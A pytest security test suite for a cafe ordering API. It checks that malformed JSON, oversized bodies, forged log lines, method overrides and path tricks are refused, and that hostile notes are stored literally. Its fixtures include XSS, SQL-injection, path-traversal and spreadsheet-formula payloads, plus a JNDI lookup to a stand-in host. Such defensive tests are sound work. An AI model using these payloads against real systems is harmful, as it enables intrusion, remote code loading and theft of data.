"""Requests of hostile clients are refused, or their text is stored as plain text."""

import json
import unicodedata
import uuid
from collections.abc import Callable

import pytest

from cafe.aws import LocalAws
from cafe.operate.log_events import LogLine
from cafe.platform import Platform
from cafe.waiting import wait_until
from tests.support.e2e.guest import SECONDS_TO_DECIDE, Guest
from tests.support.e2e.operating import take_all
from tests.support.e2e.problem import assert_problem
from tests.support.e2e.raw_http import JSON_BODY, half_sent, send
from tests.support.e2e.routes import ROUTES

pytestmark = pytest.mark.local

REFUSED_AS_TOO_LARGE = {400, 413}
"""The function says 413; a validator before it may find the form wrong first."""
HEADERS_TOO_LARGE = {400, 413, 431, 494}
"""Gateways have no common word for it."""


def key() -> tuple[str, str]:
    return ("Idempotency-Key", str(uuid.uuid4()))


def order_of(guest: Guest) -> bytes:
    return json.dumps(guest.body()).encode()


def noted(order: bytes, written: bytes) -> bytes:
    """The order with a note as it is written."""
    return order[:-1] + b', "note": "' + written + b'"}'


def tricks(drink: str) -> dict[str, bytes]:
    """Orders of a drink that readers of JSON understand in different ways."""
    line = f'{{"item_id": "{drink}", "quantity": 1}}'.encode()
    order = b'{"items": [' + line + b"]}"

    def quantity(written: str) -> bytes:
        return order.replace(b": 1}", f": {written}}}".encode())

    return {
        "a field twice": quantity('1, "quantity": 20'),
        "a field twice, once in escapes": quantity('1, "quantit\\u0079": 20'),
        "a number of 5,000 digits": quantity("1" * 5000),
        "NaN": quantity("NaN"),
        "objects 3,000 deep": b'{"a":' * 3000 + b"1" + b"}" * 3000,
        "two documents": order + order,
        "a prototype": order[:-1] + b', "__proto__": {"total": 0}}',
        "a byte order mark": b"\xef\xbb\xbf" + order,
        "UTF-16": order.decode().encode("utf-16"),
        "bytes that are not UTF-8": noted(order, b"\xff\xfe"),
        "overlong UTF-8": noted(order, b"\xc0\xaf"),
        "half a surrogate pair in bytes": noted(order, b"\xed\xa0\x80"),
    }


@pytest.mark.parametrize("trick", tricks("any"))
def test_json_that_readers_understand_in_different_ways_is_refused(guest: Guest, trick: str) -> None:
    answer = send(guest, "POST", "/orders", JSON_BODY, key(), body=tricks(guest.drinks[0])[trick])

    assert_problem(answer, 400)
    assert guest.history() == []


def test_a_note_that_shows_other_text_than_it_has_is_refused(guest: Guest) -> None:
    answer = guest.place(note="milk \u202egpj.exe")

    assert_problem(answer, 400)
    assert guest.history() == []


PLAIN_TEXT = {
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "a formula": '=HYPERLINK("http://evil.example","tip")+cmd|\' /C calc\'!A0',
    "a lookup": "${jndi:ldap://evil.example/a}{{7*7}}%s%n",
    "SQL": "'; DROP TABLE orders; --",
    "JSON": '","status":"CONFIRMED","total":0,"note":"',
    "a path": "../../etc/passwd",
    "four bytes a character": "🥐" * 200,
    "joined emoji": "👩‍🍳☕️🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "right to left": "\u200f\u0642\u0647\u0648\u0629 \u0628\u0627\u0644\u062d\u0644\u064a\u0628\u200f",
    "other letters that look alike": "\u0435\u0455\u0440r\u0435\u0455\u0455\u043e",
    "decomposed": unicodedata.normalize("NFD", "Crème brûlée"),
    "marks upon marks": "a" + "\u0301" * 199,
}


@pytest.mark.parametrize("kind", PLAIN_TEXT)
def test_any_other_note_is_stored_letter_for_letter_and_not_notified(
    guest: Guest, aws: LocalAws, platform: Platform, kind: str
) -> None:
    note = PLAIN_TEXT[kind]
    order_id = guest.place(note=note).json()["order_id"]

    decided = guest.wait_for_decision(order_id)
    (told,) = wait_until(
        lambda: notifications(aws, platform, order_id),
        seconds=SECONDS_TO_DECIDE,
        problem="not in time: the decision is told",
    )

    assert (decided["note"], decided["status"]) == (note, "CONFIRMED")
    assert decided["total"] == decided["items"][0]["unit_price"]
    assert note not in told
    assert json.dumps(note).strip('"') not in told


def notifications(aws: LocalAws, platform: Platform, order_id: str) -> list[str]:
    return [message["Body"] for message in take_all(aws, platform.inbox_url) if order_id in message["Body"]]


def test_the_same_note_in_another_normal_form_is_another_order(guest: Guest) -> None:
    composed, decomposed = (unicodedata.normalize(form, "Crème") for form in ("NFC", "NFD"))
    guest.place(key="normal-form", note=composed)

    assert_problem(guest.place(key="normal-form", note=decomposed), 422)


KEYS = {
    "letters that look alike": "\u043erder-1".encode(),
    "full width": "\uff4b\uff45\uff59".encode(),
    "zero-width": "key\u200b".encode(),
    "Latin-1": b"caf\xe9",
    "a tab": b"a\tb",
    "delete": b"a\x7f",
}


@pytest.mark.parametrize("kind", KEYS)
def test_a_key_that_could_be_taken_for_another_is_refused(guest: Guest, kind: str) -> None:
    answer = send(guest, "POST", "/orders", JSON_BODY, ("Idempotency-Key", KEYS[kind]), body=order_of(guest))

    assert_problem(answer, 400)
    assert guest.history() == []


REPEATED: dict[str, tuple[tuple[str, str], ...]] = {
    "the same key twice": (JSON_BODY, ("Idempotency-Key", "a"), ("Idempotency-Key", "a")),
    "two keys": (JSON_BODY, ("Idempotency-Key", "a"), ("Idempotency-Key", "b")),
    "two kinds of content": (JSON_BODY, ("Content-Type", "text/plain"), ("Idempotency-Key", "a")),
}


@pytest.mark.parametrize("kind", REPEATED)
def test_a_repeated_header_is_refused(guest: Guest, kind: str) -> None:
    assert_problem(send(guest, "POST", "/orders", *REPEATED[kind], body=order_of(guest)), 400)
    assert guest.history() == []


SIZES: dict[str, Callable[[bytes], bytes]] = {
    "an order with 17 kB of spaces": lambda order: order + b" " * 17_000,
    "a note of 20 kB": lambda order: noted(order, b"x" * 20_000),
    "1 MB": lambda order: noted(order, b"x" * 1_000_000),
    "11 MB": lambda order: noted(order, b"x" * 11_000_000),
}


@pytest.mark.parametrize("size", SIZES)
def test_a_body_larger_than_any_order_is_refused(guest: Guest, size: str) -> None:
    answer = send(guest, "POST", "/orders", JSON_BODY, key(), body=SIZES[size](order_of(guest)))

    assert answer.status_code in REFUSED_AS_TOO_LARGE
    assert_problem(answer, answer.status_code)
    assert guest.history() == []


def test_headers_beyond_every_limit_are_refused(guest: Guest) -> None:
    answer = send(guest, "GET", "/orders", ("X-Large", "x" * 100_000))

    assert answer.status_code in HEADERS_TOO_LARGE


def test_slow_clients_delay_no_other_and_order_nothing(guest: Guest) -> None:
    with half_sent(guest, "slow-1"), half_sent(guest, "slow-2"), half_sent(guest, "slow-3"):
        answer = guest.place()

    assert answer.status_code == 202
    assert [order["order_id"] for order in guest.history()] == [answer.json()["order_id"]]


@pytest.mark.parametrize("header", ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"])
def test_no_header_changes_the_method_of_a_request(guest: Guest, header: str) -> None:
    order_id = guest.place_one()

    read = send(guest, "GET", f"/orders/{order_id}", (header, "DELETE"))
    cancelled = send(guest, "GET", f"/orders/{order_id}/cancel?_method=POST", (header, "POST"))

    assert (read.status_code, read.json()["order_id"]) == (200, order_id)
    assert_problem(cancelled, 404)
    assert guest.wait_for_decision(order_id)["status"] == "CONFIRMED"


@pytest.mark.parametrize("method", ["HEAD", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "BREW"])
@pytest.mark.parametrize("path", sorted({route.path() for route in ROUTES}))
def test_an_undocumented_method_is_refused(guest: Guest, method: str, path: str) -> None:
    answer = send(guest, method, path)

    assert 400 <= answer.status_code < 500
    assert "order_id" not in answer.text


PATHS = (
    *("//orders", "/orders/", "/orders//", "/./orders", "/menu/../orders", "/menu/%2e%2e/orders", "/%6frders"),
    *("/Orders", "/orders;a=b", "/orders%2f", "/orders/%2e", "/orders%00", "/orders%3flimit=1", "/menu%2f..%2forders"),
    *("/orders/{id}", "/orders/{id}/", "//orders//{id}", "/orders%2f{id}", "/orders/{id}%00", "/orders/{id}.json"),
)


@pytest.mark.parametrize("path", PATHS)
def test_no_spelling_of_a_path_shows_anothers_order(guest: Guest, other_guest: Guest, path: str) -> None:
    order_id = guest.place_one()
    written = path.replace("{id}", order_id)

    stranger = send(guest, "GET", written, signed_in=False)
    other = send(other_guest, "GET", written)

    assert stranger.status_code in {401, 403, 404}
    assert order_id not in stranger.text + other.text


MARK = "forged-by-a-client"
FORGERY = f'{MARK}\\n{{"level":"ERROR","message":"{MARK}"}}'
"""Would be a line of its own in a log that wrote it as it is."""


def test_no_text_of_a_client_is_logged(guest: Guest, log: Callable[[], list[LogLine]]) -> None:
    headers = [
        ("User-Agent", f"\x1b[31m{FORGERY}"),
        ("X-Correlation-Id", f'{MARK}","level":"ERROR'),
        ("X-Forwarded-For", FORGERY),
        ("Referer", FORGERY),
        ("Idempotency-Key", MARK),
    ]
    placed = send(
        guest, "POST", "/orders", JSON_BODY, *headers, body=noted(order_of(guest), json.dumps(FORGERY)[1:-1].encode())
    )
    refused = [
        send(guest, "POST", "/orders", JSON_BODY, *headers, body=f'{{"{MARK}": 1}}'.encode()),
        send(guest, "GET", f"/orders/{MARK}%0a%0d%1b[31m", *headers[:-1]),
        send(guest, "GET", f"/orders?limit={MARK}%0a&cursor={MARK}%0a", *headers[:-1]),
    ]

    guest.wait_for_decision(placed.json()["order_id"])

    assert placed.status_code == 202
    assert [answer.status_code for answer in refused] == [400, 404, 400]
    written = log()
    assert any(line.fields.get("order_id") == placed.json()["order_id"] for line in written)
    assert [line.message for line in written if MARK in line.message] == []
    assert [line.message for line in written if "{" in line.message and not line.fields] == []


def test_a_correlation_id_that_is_more_than_a_name_is_replaced(guest: Guest) -> None:
    for forged in (FORGERY, "short", "x" * 65, "<script>", "a b c d e f"):
        answer = send(guest, "GET", "/orders", ("X-Correlation-Id", forged))

        assert answer.status_code == 200
        assert answer.headers["X-Correlation-Id"] not in {None, forged}
